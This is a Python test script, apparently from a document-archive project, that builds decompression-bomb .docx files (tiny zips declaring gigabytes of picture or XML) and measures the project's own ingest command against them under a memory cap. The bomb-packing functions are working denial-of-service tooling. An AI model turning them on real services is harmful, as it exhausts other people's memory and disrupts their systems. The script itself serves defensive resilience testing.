"""Office files as bombs: a 3.2 MB .docx declaring a 3 GB picture, a 3.8 MB one declaring 1 GB of
XML, and (no bomb) a .docx of 68 MB of XML that must be read in bounded memory.

Builds the bombs, ingests each into a fresh index with the CLI and reports the peak memory of
the whole process tree (main process and workers, read from /proc every 20 ms) and the answer.
A run past ``--cap-mb`` is killed, so the attack is bounded on any machine:

    .venv/bin/python -m scripts.attack_office_bombs [--cap-mb 3000] [--image-gb 3] [--xml-gb 1]

The bombs are made without unpacking anything: a deflate block of 1 MiB of the same bytes,
ended with a full flush, is the same bytes every time, so the packed stream is that block
repeated; only the CRC is computed over the real size (about a second per 3 GB).
"""

from __future__ import annotations

import argparse
import os
import struct
import subprocess
import sys
import tempfile
import time
import zlib
from dataclasses import dataclass
from pathlib import Path

_CHUNK = 1 << 20
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_PACKAGE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
_DOCUMENT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
    'Target="media/image1.png"/></Relationships>'
)
_PARAGRAPH = "<w:p><w:r><w:t>开展执法检查206次，罚款16.97万元。</w:t></w:r></w:p>"
_DOCUMENT_HEAD = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="{_W}" xmlns:r="{_R}"><w:body>'
_DOCUMENT_TAIL = "</w:body></w:document>"


@dataclass(frozen=True)
class Member:
    """One zip entry, already packed (raw deflate)."""

    name: str
    packed: bytes
    crc: int
    size: int


def packed_member(name: str, head: bytes, unit: bytes, repeats: int, tail: bytes) -> Member:
    """``head + unit * repeats + tail`` packed without building it: ``unit`` is packed once, with
    a full flush (which resets the compressor, so the next copy packs to the same bytes)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
    last = packer.compress(tail) + packer.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(repeats):
        crc = zlib.crc32(unit, crc)
    crc = zlib.crc32(tail, crc)
    return Member(name, first + block * repeats + last, crc, len(head) + len(unit) * repeats + len(tail))


def small_member(name: str, text: str) -> Member:
    return packed_member(name, text.encode(), b"", 0, b"")


def write_zip(path: Path, members: list[Member]) -> None:
    """A zip of ``members`` (sizes under 4 GiB), written by hand since zipfile cannot store
    data packed elsewhere."""
    central = bytearray()
    with path.open("wb") as out:
        for member in members:
            offset = out.tell()
            name = member.name.encode()
            sizes = struct.pack("<III", member.crc, len(member.packed), member.size)
            out.write(struct.pack("<IHHHHH", 0x04034B50, 20, 0, 8, 0, 0) + sizes + struct.pack("<HH", len(name), 0) + name)
            out.write(member.packed)
            central += struct.pack("<IHHHHHH", 0x02014B50, 20, 20, 0, 8, 0, 0) + sizes
            central += struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, offset) + name
        start = out.tell()
        out.write(central)
        out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), start, 0))


def _docx(path: Path, document: Member, picture: Member | None = None) -> Path:
    parts = [small_member("[Content_Types].xml", _CONTENT_TYPES), small_member("_rels/.rels", _PACKAGE_RELS), document]
    if picture is not None:
        parts += [small_member("word/_rels/document.xml.rels", _DOCUMENT_RELS), picture]
    write_zip(path, parts)
    return path


def image_bomb(path: Path, gigabytes: float = 3) -> Path:
    """A .docx whose one paragraph shows a picture that unpacks to ``gigabytes`` GB."""
    document = small_member("word/document.xml", _DOCUMENT_HEAD + _PARAGRAPH + _DOCUMENT_TAIL)
    picture = packed_member("word/media/image1.png", b"\x89PNG\r\n\x1a\n", bytes(_CHUNK), int(gigabytes * 1024), b"")
    return _docx(path, document, picture)


def xml_bomb(path: Path, gigabytes: float = 1) -> Path:
    """A .docx whose document part unpacks to ``gigabytes`` GB of paragraphs."""
    unit = _PARAGRAPH.encode() * (_CHUNK // len(_PARAGRAPH.encode()))
    repeats = int(gigabytes * 1024 * _CHUNK / len(unit))
    document = packed_member("word/document.xml", _DOCUMENT_HEAD.encode(), unit, repeats, _DOCUMENT_TAIL.encode())
    return _docx(path, document)


def large_docx(path: Path, sections: int = 700) -> Path:
    """A .docx of 68 MB of XML (for 700 sections) that is no bomb: a paragraph of text per
    section, then 1000 formatted empty paragraphs, packed 20:1 as Word's XML is."""
    empty = "".join(f'<w:p><w:pPr><w:spacing w:before="{n}"/></w:pPr><w:r><w:rPr><w:sz w:val="{n % 97}"/></w:rPr></w:r></w:p>'
                    for n in range(1000))
    body = "".join(f"<w:p><w:r><w:t>第{n}部分 全年开展执法检查206次。</w:t></w:r></w:p>{empty}" for n in range(sections))
    document = f'{_DOCUMENT_HEAD}{body}{_DOCUMENT_TAIL}'.encode()
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    packed = packer.compress(document) + packer.flush()
    parts = [small_member("[Content_Types].xml", _CONTENT_TYPES), small_member("_rels/.rels", _PACKAGE_RELS),
             Member("word/document.xml", packed, zlib.crc32(document), len(document))]
    write_zip(path, parts)
    return path


@dataclass(frozen=True)
class Measured:
    returncode: int | None  # None when killed at the cap
    peak_mb: float
    seconds: float
    output: str


def _tree_rss_kb(root: int) -> int:
    """Resident memory of ``root`` and all its descendants, in kB, from /proc."""
    parents: dict[int, int] = {}
    rss: dict[int, int] = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            stat = Path(f"/proc/{entry}/stat").read_text()
            fields = stat[stat.rindex(")") + 2 :].split()
            parents[int(entry)] = int(fields[1])
            rss[int(entry)] = int(fields[21]) * os.sysconf("SC_PAGE_SIZE") // 1024
        except (OSError, ValueError, IndexError):
            continue
    total, todo = 0, [root]
    while todo:
        pid = todo.pop()
        total += rss.get(pid, 0)
        todo.extend(child for child, parent in parents.items() if parent == pid)
    return total


def run_measured(command: list[str], cap_mb: float = 3000, timeout: float = 300, env: dict | None = None) -> Measured:
    """Run ``command``, sampling the memory of its process tree; kill it past ``cap_mb`` or ``timeout``."""
    started = time.monotonic()
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, env=env, start_new_session=True)
    peak = 0
    killed = False
    while process.poll() is None:
        peak = max(peak, _tree_rss_kb(process.pid))
        if peak > cap_mb * 1024 or time.monotonic() - started > timeout:
            os.killpg(process.pid, 9)
            killed = True
            break
        time.sleep(0.02)
    output = process.communicate()[0].decode(errors="replace")
    return Measured(None if killed else process.returncode, peak / 1024, time.monotonic() - started, output)


def ingest_command(path: Path, index: Path) -> list[str]:
    return [sys.executable, "-m", "archive", "ingest", "--workers", "1", "--index", str(index), str(path)]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--cap-mb", type=float, default=3000, help="kill a run whose memory passes this")
    parser.add_argument("--image-gb", type=float, default=3)
    parser.add_argument("--xml-gb", type=float, default=1)
    options = parser.parse_args()
    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder)
        attacks = (
            ("image bomb", image_bomb(root / "image_bomb.docx", options.image_gb), f"{options.image_gb:g} GB picture"),
            ("xml bomb", xml_bomb(root / "xml_bomb.docx", options.xml_gb), f"{options.xml_gb:g} GB of XML"),
            ("large, no bomb", large_docx(root / "large.docx"), "68 MB of XML"),
        )
        for name, path, declared in attacks:
            result = run_measured(ingest_command(path, root / f"index_{path.stem}"), options.cap_mb)
            answer = "killed at the cap" if result.returncode is None else f"exit {result.returncode}"
            print(f"{name}: {path.stat().st_size / 1e6:.1f} MB file declaring {declared} → {answer}, "
                  f"peak {result.peak_mb:,.0f} MB, {result.seconds:.1f} s")
            print("   ", " | ".join(line for line in result.output.splitlines() if line.strip())[-400:])


if __name__ == "__main__":
    main()
